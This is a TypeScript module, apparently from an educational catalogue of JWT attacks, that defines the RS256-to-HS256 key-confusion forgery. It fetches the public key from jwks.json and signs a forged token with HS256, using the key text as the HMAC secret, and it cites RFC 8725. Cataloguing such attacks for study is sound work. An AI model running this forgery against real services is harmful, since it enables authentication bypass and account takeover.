/** The public key’s text as HMAC secret. It needs a public key. */
import { rfc } from '#sources/sources';
import keyConfusion from '#jose/forgery/ways/key-confusion';
import { publicPemOf } from '#jose/forgery/service';
import type { PublicJwk } from '#jose/keys/jwk';
import { AUTH_ORIGIN } from '../origins';
import { forging } from '../attacker/forged-token';
import { LIBRARIES_REFUSE, NAIVE_VERIFIER_ASSUMED } from '../attacker/assumed';
import type { AttackUnit } from '../attacker/attack';

export default {
  order: 42,
  label: 'Public key as secret',
  also: ['RS256 HS256'],
  says: 'The attacker fetches the public key and signs with HS256, using the key’s text as the secret. A verifier that lets the token choose the algorithm does the same.',
  sources: [rfc(8725, '2.1'), rfc(8725, '3.1')],
  assumes: [LIBRARIES_REFUSE, NAIVE_VERIFIER_ASSUMED],
  presupposes: { alg: 'RS256' },
  ...forging(async (has, hands) => {
    const { content } = await hands.send('GET', `${AUTH_ORIGIN}/jwks.json`);
    const [jwk] = (JSON.parse(content) as { keys: readonly PublicJwk[] }).keys;
    const publicPem = jwk && (await publicPemOf(jwk, jwk.alg ?? ''));
    return keyConfusion.forge({ ...has, ...(publicPem === undefined ? {} : { publicPem }) });
  }),
} satisfies AttackUnit;
